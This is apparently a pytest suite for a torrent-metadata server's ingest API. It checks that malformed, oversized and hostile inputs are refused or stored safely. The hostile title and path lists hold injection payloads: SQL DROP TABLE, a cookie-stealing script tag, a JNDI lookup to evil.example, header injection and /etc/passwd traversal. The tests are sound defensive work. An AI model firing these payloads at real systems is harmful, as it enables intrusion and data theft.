"""Bad input: every refusal is a clear 4xx JSON error naming the field, the stored data is
intact afterwards, and the server keeps answering."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from typing import Any

import pytest

from engine.core import Core
from tests.server.conftest import (
    JSON_TYPE,
    NDJSON_TYPE,
    Api,
    ApiFactory,
    error_of,
    info_hash,
    ndjson,
    record,
)

SEED = [
    record(
        "The.Matrix.1999.1080p.BluRay.x264-GRP",
        seeders=1200,
        leechers=40,
        size=8_500_000_000,
        files=[{"path": "The.Matrix.1999.1080p.BluRay.x264-GRP.mkv", "size": 8_500_000_000}],
    ),
    record("Breaking.Bad.S01E02.720p.HDTV.x264-CTU", source="eztv", seeders=842),
    record("ubuntu-24.04.1-desktop-amd64.iso", source="apibay", seeders=3100),
]
NEW_TITLE = "Dune.Part.Two.2024.2160p.WEB-DL.DDP5.1.Atmos.DV.HDR.H.265-FLUX"


class Guard:
    """Remembers what the API shows for the seed data, and checks it is unchanged."""

    def __init__(self, api: Api) -> None:
        self.api = api
        self.details: dict[str, Any] = {}
        self.page: dict[str, Any] = {}

    async def snapshot(self) -> None:
        await self.api.bulk(SEED)
        await self.api.drain()
        self.details = {r["info_hash"]: await self.api.detail(r["info_hash"]) for r in SEED}
        self.page = await self.api.search(sort="seeders")
        assert self.page["total"] == len(SEED)

    async def intact(self) -> None:
        """The server answers, the seed data is as it was, and nothing else was stored."""
        health = await self.api.health()
        assert health["status"] == "ok"
        assert health["torrents"] == len(SEED), "a refused request stored something"
        for key, before in self.details.items():
            assert await self.api.detail(key) == before
        await self.api.drain()
        assert await self.api.search(sort="seeders") == self.page
        # and it still takes good records
        answer = await self.api.ingest(record(NEW_TITLE, source="torrentdownloads"))
        assert answer["created"] + answer["updated"] == 1


@pytest.fixture
async def guard(api: Api) -> Guard:
    g = Guard(api)
    await g.snapshot()
    return g


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


H = info_hash("bad-input")
BAD_RECORDS: list[tuple[str, Any, str]] = [
    # (case id, the JSON value sent, the field the error must name)
    ("array-not-object", [], "record"),
    ("string-not-object", "The.Matrix.1999", "record"),
    ("number-not-object", 42, "record"),
    ("null-not-object", None, "record"),
    ("missing-title", {"info_hash": H, "source": "1337x"}, "title"),
    ("missing-source", {"info_hash": H, "title": NEW_TITLE}, "source"),
    ("missing-hash-and-magnet", {"title": NEW_TITLE, "source": "1337x"}, "info_hash"),
    ("hash-not-hex", {"info_hash": "g" * 40, "title": NEW_TITLE, "source": "x"}, "info_hash"),
    ("hash-too-short", {"info_hash": "abc123", "title": NEW_TITLE, "source": "x"}, "info_hash"),
    ("hash-v2", {"info_hash": "ab" * 32, "title": NEW_TITLE, "source": "x"}, "info_hash"),
    ("hash-zeros", {"info_hash": "0" * 40, "title": NEW_TITLE, "source": "x"}, "info_hash"),
    ("hash-bad-base32", {"info_hash": "1" * 32, "title": NEW_TITLE, "source": "x"}, "info_hash"),
    ("hash-number", {"info_hash": 1234567890, "title": NEW_TITLE, "source": "x"}, "info_hash"),
    ("hash-empty", {"info_hash": "", "title": NEW_TITLE, "source": "x"}, "info_hash"),
    ("hash-huge", {"info_hash": "a" * 100_000, "title": NEW_TITLE, "source": "x"}, "info_hash"),
    ("magnet-not-magnet", {"magnet": "http://x", "title": NEW_TITLE, "source": "x"}, "magnet"),
    ("magnet-no-xt", {"magnet": "magnet:?dn=dune", "title": NEW_TITLE, "source": "x"}, "magnet"),
    (
        "magnet-differs",
        {
            "info_hash": H,
            "magnet": f"magnet:?xt=urn:btih:{info_hash('other')}",
            "title": NEW_TITLE,
            "source": "x",
        },
        "magnet",
    ),
    ("size-negative", {**record(NEW_TITLE), "size": -1}, "size"),
    ("size-too-big", {**record(NEW_TITLE), "size": 2**64}, "size"),
    ("size-string", {**record(NEW_TITLE), "size": "4 GB"}, "size"),
    ("size-float", {**record(NEW_TITLE), "size": 1.5}, "size"),
    ("seeders-negative", {**record(NEW_TITLE), "seeders": -3}, "seeders"),
    ("seeders-bool", {**record(NEW_TITLE), "seeders": True}, "seeders"),
    ("seeders-absurd", {**record(NEW_TITLE), "seeders": 10**12}, "seeders"),
    ("leechers-string", {**record(NEW_TITLE), "leechers": "12"}, "leechers"),
    ("title-empty", {**record(NEW_TITLE), "title": ""}, "title"),
    ("title-blank", {**record(NEW_TITLE), "title": " \t "}, "title"),
    ("title-control-only", {**record(NEW_TITLE), "title": "\x01\x02\x1b"}, "title"),
    ("title-huge", {**record(NEW_TITLE), "title": "Dune " * 50_000}, "title"),
    ("title-number", {**record(NEW_TITLE), "title": 1999}, "title"),
    ("title-object", {**record(NEW_TITLE), "title": {"en": "Dune"}}, "title"),
    ("title-lone-surrogate", {**record(NEW_TITLE), "title": "Dune \ud800"}, "title"),
    ("source-empty", {**record(NEW_TITLE), "source": ""}, "source"),
    ("source-space", {**record(NEW_TITLE), "source": "the pirate bay"}, "source"),
    ("source-path", {**record(NEW_TITLE), "source": "../../etc/passwd"}, "source"),
    ("source-too-long", {**record(NEW_TITLE), "source": "s" * 65}, "source"),
    ("source-url-js", {**record(NEW_TITLE), "source_url": "javascript:alert(1)"}, "source_url"),
    ("published-garbage", {**record(NEW_TITLE), "published_at": "last week"}, "published_at"),
    (
        "published-future",
        {**record(NEW_TITLE), "published_at": "2999-01-01T00:00:00Z"},
        "published_at",
    ),
    (
        "published-1970",
        {**record(NEW_TITLE), "published_at": "1970-01-01T00:00:00Z"},
        "published_at",
    ),
    ("published-number", {**record(NEW_TITLE), "published_at": 1700000000}, "published_at"),
    ("imdb-bad", {**record(NEW_TITLE), "imdb_id": "nm0000206"}, "imdb_id"),
    ("tmdb-zero", {**record(NEW_TITLE), "tmdb_id": 0}, "tmdb_id"),
    ("tvdb-negative", {**record(NEW_TITLE), "tvdb_id": -5}, "tvdb_id"),
    ("files-not-list", {**record(NEW_TITLE), "files": "dune.mkv"}, "files"),
    ("file-empty-path", {**record(NEW_TITLE), "files": [{"path": "", "size": 1}]}, "files.0.path"),
    (
        "file-negative-size",
        {**record(NEW_TITLE), "files": [{"path": "a.mkv", "size": 1}, {"path": "b", "size": -1}]},
        "files.1.size",
    ),
    ("file-no-size", {**record(NEW_TITLE), "files": [{"path": "a.mkv"}]}, "files.0.size"),
    ("trackers-not-list", {**record(NEW_TITLE), "trackers": "udp://t:1"}, "trackers"),
    ("description-huge", {**record(NEW_TITLE), "description": "x" * 70_000}, "description"),
    ("nested-in-a-field", {**record(NEW_TITLE), "title": json.loads(nested(500))}, "title"),
]


async def test_each_bad_record_is_400_naming_the_field(guard: Guard) -> None:
    # One server for all cases (a fresh database per case costs more than the cases);
    # every case is checked and all failures are reported together.
    failures: list[str] = []
    for case, value, field in BAD_RECORDS:
        resp = await guard.api.post("/api/ingest", json.dumps(value))
        text = await resp.text()
        try:
            error = await error_of(resp, 400)
            assert error["type"] == "invalid_record", error
            assert error["field"] == field, error
            assert error["message"].startswith(f"{field}: "), error
            assert len(error["message"]) < 1000, "a reason, not an echo of the input"
        except AssertionError as exc:
            failures.append(f"{case}: {exc} ({text[:300]})")
    assert not failures, "\n".join(failures)
    await guard.intact()


async def test_bad_records_in_a_bulk_are_rejected_by_index(guard: Guard) -> None:
    good = [record(f"Some.Show.S02E{n:02d}.1080p.WEB.h264-GOSSIP", source="eztv") for n in (1, 2)]
    body = [good[0], *(value for _, value, _ in BAD_RECORDS), good[1]]
    answer = await guard.api.bulk(body)
    assert answer["created"] == 2
    rejected = answer["rejected"]
    assert [r["index"] for r in rejected] == list(range(1, len(BAD_RECORDS) + 1))
    for rejection, (case, _, field) in zip(rejected, BAD_RECORDS, strict=True):
        assert rejection["error"].startswith(f"{field}: "), (case, rejection)
    for rec in good:
        await guard.api.detail(rec["info_hash"])
    health = await guard.api.health()
    assert health["torrents"] == len(SEED) + 2


@pytest.mark.parametrize(
    ("path", "content_type", "body", "field"),
    [
        ("/api/ingest", JSON_TYPE, b'{"title": "Dune", ', "body"),
        ("/api/ingest", JSON_TYPE, b"\xff\xfe\x00garbage", "body"),
        ("/api/ingest", JSON_TYPE, b"   ", "body"),
        ("/api/ingest", JSON_TYPE, nested(100_000).encode(), "body"),
        ("/api/ingest/bulk", JSON_TYPE, b"[{]", "body"),
        ("/api/ingest/bulk", JSON_TYPE, b'{"title": "not an array"}', "body"),
        ("/api/ingest/bulk", JSON_TYPE, b"null", "body"),
        ("/api/ingest/bulk", JSON_TYPE, b"\xc3\x28", "body"),
    ],
    ids=[
        "one-cut-off",
        "one-not-utf8",
        "one-whitespace",
        "one-deeply-nested",
        "bulk-broken",
        "bulk-object",
        "bulk-null",
        "bulk-not-utf8",
    ],
)
async def test_malformed_bodies_are_400(
    guard: Guard, path: str, content_type: str, body: bytes, field: str
) -> None:
    error = await error_of(await guard.api.post(path, body, content_type), 400)
    assert error["field"] == field
    await guard.intact()


async def test_deeply_nested_bulk_array_is_400(guard: Guard) -> None:
    resp = await guard.api.post("/api/ingest/bulk", nested(100_000))
    error = await error_of(resp, 400)
    assert error["field"] == "body"
    await guard.intact()


async def test_deeply_nested_ndjson_line_is_rejected_alone(guard: Guard) -> None:
    good = record(NEW_TITLE)
    body = ndjson([good]) + nested(100_000).encode() + b"\n" + ndjson([record("Arrival.2016")])
    resp = await guard.api.post("/api/ingest/bulk", body, NDJSON_TYPE)
    assert resp.status == 200, await resp.text()
    answer = await resp.json()
    assert answer["created"] == 2
    assert [r["index"] for r in answer["rejected"]] == [1]


async def test_empty_bodies_are_400(guard: Guard) -> None:
    for path, content_type in (
        ("/api/ingest", JSON_TYPE),
        ("/api/ingest/bulk", JSON_TYPE),
        ("/api/ingest/bulk", NDJSON_TYPE),
    ):
        error = await error_of(await guard.api.post(path, b"", content_type), 400)
        assert error["field"] == "body"
        assert "empty" in error["message"]
    await guard.intact()


async def test_ndjson_of_only_blank_lines_stores_nothing(guard: Guard) -> None:
    resp = await guard.api.post("/api/ingest/bulk", b"\n\n   \n", NDJSON_TYPE)
    assert resp.status == 200, await resp.text()
    assert await resp.json() == {"created": 0, "updated": 0, "rejected": []}
    await guard.intact()


@pytest.mark.parametrize(
    ("path", "content_type"),
    [
        ("/api/ingest", "text/plain"),
        ("/api/ingest", "application/x-www-form-urlencoded"),
        ("/api/ingest", NDJSON_TYPE),  # one record is JSON only
        ("/api/ingest", "multipart/form-data; boundary=x"),
        ("/api/ingest/bulk", "text/csv"),
        ("/api/ingest/bulk", "application/xml"),
        ("/api/ingest/file", JSON_TYPE),
    ],
)
async def test_wrong_content_type_is_415(guard: Guard, path: str, content_type: str) -> None:
    body = json.dumps(record(NEW_TITLE)).encode()
    error = await error_of(await guard.api.post(path, body, content_type), 415)
    assert error["type"] == "unsupported_media_type"
    assert content_type.split(";")[0] in error["message"]
    await guard.intact()


async def test_missing_content_type_is_415(guard: Guard) -> None:
    resp = await guard.api.client.post(
        "/api/ingest", data=json.dumps(record(NEW_TITLE)).encode(), headers=guard.api.headers()
    )
    await error_of(resp, 415)
    await guard.intact()


async def test_json_with_a_charset_parameter_is_accepted(guard: Guard) -> None:
    resp = await guard.api.post(
        "/api/ingest", json.dumps(record(NEW_TITLE)), "application/json; charset=utf-8"
    )
    assert resp.status == 200, await resp.text()


async def test_over_the_body_limit_is_413(make_api: ApiFactory, core: Core) -> None:
    small = await make_api(core, max_body_bytes=4096)
    guard = Guard(small)
    await guard.snapshot()
    big_record = json.dumps({**record(NEW_TITLE), "description": "x" * 5000})
    big_bulk = json.dumps([record(f"Show.S01E{n:02d}.720p.HDTV") for n in range(60)])
    cases = [
        ("/api/ingest", big_record.encode(), JSON_TYPE),
        ("/api/ingest/bulk", big_bulk.encode(), JSON_TYPE),
        ("/api/ingest/bulk", ndjson(json.loads(big_bulk)), NDJSON_TYPE),
    ]
    for path, body, content_type in cases:
        assert len(body) > 4096
        error = await error_of(await small.post(path, body, content_type), 413)
        assert error["type"] == "payload_too_large"
        assert "4096" in error["message"]

    async def chunks() -> AsyncIterator[bytes]:  # no Content-Length: counted while reading
        for _ in range(10):
            yield b" " * 1000

    resp = await small.client.post(
        "/api/ingest/bulk", data=chunks(), headers=small.headers(content_type=JSON_TYPE)
    )
    await error_of(resp, 413)
    await guard.intact()
    # Just under the limit is fine.
    fits = json.dumps([record(f"Show.S01E{n:02d}.720p.HDTV") for n in range(20)])
    assert len(fits) < 4096
    assert (await small.bulk(json.loads(fits)))["created"] == 20


async def test_more_records_than_max_bulk_records_is_400_and_stores_none(guard: Guard) -> None:
    limit = guard.api.core.services.ingest.max_records
    assert limit == 100_000  # the configured default
    records = [
        {"info_hash": f"{n:040x}", "title": f"Bulk.Flood.{n}", "source": "flood"}
        for n in range(1, limit + 2)
    ]
    for body, content_type in (
        (json.dumps(records).encode(), JSON_TYPE),
        (ndjson(records), NDJSON_TYPE),
    ):
        error = await error_of(await guard.api.post("/api/ingest/bulk", body, content_type), 400)
        assert error["field"] == "body"
        assert "100001 records" in error["message"]
        assert "100000" in error["message"]
    await guard.intact()


HOSTILE_TITLES = [
    "<script>alert(document.cookie)</script>.1080p",
    "'; DROP TABLE torrents; --",
    'Robert"); DELETE FROM sightings; --',
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=1",
    "{{7*7}} {% debug %}",
    "\u202eexe.4pm.Matrix",  # right-to-left override
    "千と千尋の神隠し.Spirited.Away.2001.1080p.BluRay",
    "Амели.Amelie.2001.1080p.BluRay",
    "\U0001f3ac\U0001f37f Movie Night 2024 \u00e9\u00e8\u00ea",
    "Z\u0351\u0352\u0357a\u0308\u0301l\u0327g\u0328o\u034e",
    "A" * 1024,
]


async def test_hostile_and_unicode_titles_are_stored_verbatim(guard: Guard) -> None:
    records = [record(title, source="hostile") for title in HOSTILE_TITLES]
    answer = await guard.api.bulk(records)
    assert answer == {"created": len(records), "updated": 0, "rejected": []}
    for rec in records:
        got = await guard.api.detail(rec["info_hash"])
        assert got["title"] == rec["title"]
    await guard.api.drain()
    page = await guard.api.search(q="spirited away")
    assert [h["title"] for h in page["hits"]] == [HOSTILE_TITLES[8]]
    assert (await guard.api.search(q="千と千尋の神隠し"))["total"] == 1
    assert (await guard.api.search(q="drop table"))["total"] == 1
    for key, before in guard.details.items():
        assert await guard.api.detail(key) == before


async def test_control_characters_in_titles_become_spaces(guard: Guard) -> None:
    rec = record("The.Matrix\x00.1999\r\n.1080p\x1b[31m")
    await guard.api.ingest(rec)
    got = await guard.api.detail(rec["info_hash"])
    assert got["title"] == "The.Matrix .1999 .1080p [31m"


NUL_CASES = [
    ("description", {"description": "Ripped by\x00GRP"}),
    ("source_url", {"source_url": "https://1337x.to/torrent/1/\x00"}),
    ("files", {"files": [{"path": "Dune\x00.mkv", "size": 1}]}),
    ("trackers", {"trackers": ["udp://tracker\x00.example:1337"]}),
    ("magnet", {"magnet": f"magnet:?xt=urn:btih:{info_hash(NEW_TITLE)}&tr=udp://t\x00:1"}),
]


@pytest.mark.parametrize("extra", [c[1] for c in NUL_CASES], ids=[c[0] for c in NUL_CASES])
async def test_nul_characters_never_sink_a_bulk(guard: Guard, extra: dict[str, Any]) -> None:
    # PostgreSQL text cannot hold NUL: normalization must remove it from every field.
    good = record("Arrival.2016.1080p.BluRay.x264-SPARKS", source="yts")
    hostile = {**record(NEW_TITLE, source="hostile"), **extra}
    resp = await guard.api.post("/api/ingest/bulk", json.dumps([good, hostile]))
    assert resp.status == 200, (await resp.text())[:500]
    answer = await resp.json()
    await guard.api.detail(good["info_hash"])  # the valid record is stored
    if answer["rejected"]:  # refusing the hostile one is fine, if it names the field
        [rejection] = answer["rejected"]
        assert rejection["index"] == 1
        assert rejection["error"].split(":")[0].split(".")[0] in {"description", *extra}
    else:
        assert answer["created"] == 2


async def test_hostile_paths_and_query_strings(guard: Guard) -> None:
    api = guard.api
    for path in (
        "/api/torrents/..%2F..%2Fetc%2Fpasswd",
        "/api/torrents/%00",
        "/api/torrents/" + "f" * 5000,
        "/api/torrents/%ff%fe",
    ):
        resp = await api.get(path)
        error = await error_of(resp, 400 if resp.status == 400 else 404)
        assert error["type"] in {"invalid_record", "not_found"}
    resp = await api.get("/api/search?q=%ff%fe%00")
    assert resp.status == 200
    resp = await api.get("/api/search?limit=1&limit=abc")  # the last value counts
    assert (await error_of(resp, 400))["message"].startswith("limit: ")
    await guard.intact()


async def test_overlong_request_line_is_refused_and_the_server_lives(guard: Guard) -> None:
    # aiohttp's HTTP parser refuses lines over 8190 bytes before the app sees them (plain text).
    resp = await guard.api.get("/api/search", params={"q": "a" * 20_000})
    assert 400 <= resp.status < 500
    await guard.intact()


async def test_unknown_route_and_wrong_method_are_json(guard: Guard) -> None:
    api = guard.api
    await error_of(await api.get("/api/ingest/everything"), 404)
    await error_of(await api.client.delete("/api/torrents/" + "a" * 40, headers=api.headers()), 405)
    await error_of(await api.client.put("/api/ingest", data=b"{}", headers=api.headers()), 405)
    await guard.intact()
